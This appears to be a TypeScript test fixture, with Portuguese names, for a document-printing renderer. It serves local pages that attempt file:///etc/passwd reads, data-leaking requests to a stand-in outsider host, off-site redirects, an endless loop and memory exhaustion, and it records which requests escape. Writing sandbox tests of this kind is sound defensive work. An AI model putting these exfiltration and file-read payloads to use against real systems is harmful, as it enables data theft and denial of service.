import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A small site whose pages are printed, and somebody outside who must never hear of it. */
export interface SiteHostil {
  readonly origin: string;
  /** Addresses that were asked of the outsider. */
  readonly ouvidos: readonly string[];
  close(): Promise<void>;
}

const PRONTO = 'document.documentElement.dataset.documento = "pronto"';

/** `FORA` becomes the outsider's host and port. */
const paginas: Readonly<Record<string, string>> = {
  '/boa': `<!doctype html><html lang="pt-BR" data-documento="pronto"><title>Boa</title>
    <style>@page { size: A4; margin: 15mm } .depois { break-before: page }</style>
    <h1>Relatório</h1><p class="depois">segunda folha</p>`,
  '/hostil': `<!doctype html><html><body>
    <iframe src="file:///etc/passwd"></iframe>
    <link rel="stylesheet" href="http://FORA/estilo">
    <link rel="preconnect" href="http://FORA/">
    <img src="http://FORA/imagem?segredo=1">
    <img src="/leva-para-fora">
    <object data="http://FORA/objeto"></object>
    <script>
      try { new WebSocket('ws://FORA/socket') } catch {}
      fetch('http://FORA/busca').catch(() => undefined);
      navigator.sendBeacon('http://FORA/farol', 'x');
      open('http://FORA/janela');
      new Worker(URL.createObjectURL(new Blob(["fetch('http://FORA/operario').catch(() => undefined)"])));
      addEventListener('load', () => setTimeout(() => { ${PRONTO} }, 300));
    </script>`,
  '/sem-fim': '<!doctype html><html><script>for (;;) {}</script>',
  '/nunca-pronta': '<!doctype html><html><p>espera</p>',
  '/gulosa': `<!doctype html><html><script>
    const guardados = [];
    setInterval(() => { for (let i = 0; i < 20; i++) guardados.push(new Uint8Array(1e7).fill(1)) }, 1);
    </script>`,
  '/falhou': '<!doctype html><html data-documento="falhou"><p>não</p>',
};

export async function startSiteHostil(): Promise<SiteHostil> {
  const ouvidos: string[] = [];
  const fora = createServer((req, res) => {
    ouvidos.push(req.url ?? '');
    res.end();
  });
  fora.on('upgrade', (req, socket) => {
    ouvidos.push(`socket ${req.url}`);
    socket.destroy();
  });
  const site = createServer((req, res) => {
    const caminho = (req.url ?? '').split('?')[0] ?? '';
    if (caminho === '/leva-para-fora' || caminho === '/pagina-que-sai') {
      res.writeHead(302, { Location: `${enderecoDe(fora)}/desviado` }).end();
      return;
    }
    if (caminho === '/pagina-que-entra') {
      res.writeHead(302, { Location: '/boa' }).end();
      return;
    }
    const pagina = paginas[caminho];
    if (pagina === undefined) {
      res.writeHead(404).end();
      return;
    }
    res.setHeader('Content-Type', 'text/html; charset=utf-8');
    res.end(pagina.replaceAll('FORA', new URL(enderecoDe(fora)).host));
  });
  await Promise.all([fora, site].map((um) => new Promise<void>((resolve) => um.listen(0, '127.0.0.1', resolve))));
  return {
    origin: enderecoDe(site),
    ouvidos,
    async close() {
      for (const um of [fora, site]) {
        um.closeAllConnections();
        await new Promise((resolve) => um.close(resolve));
      }
    },
  };
}

const enderecoDe = (servidor: Server) => `http://127.0.0.1:${(servidor.address() as AddressInfo).port}`;
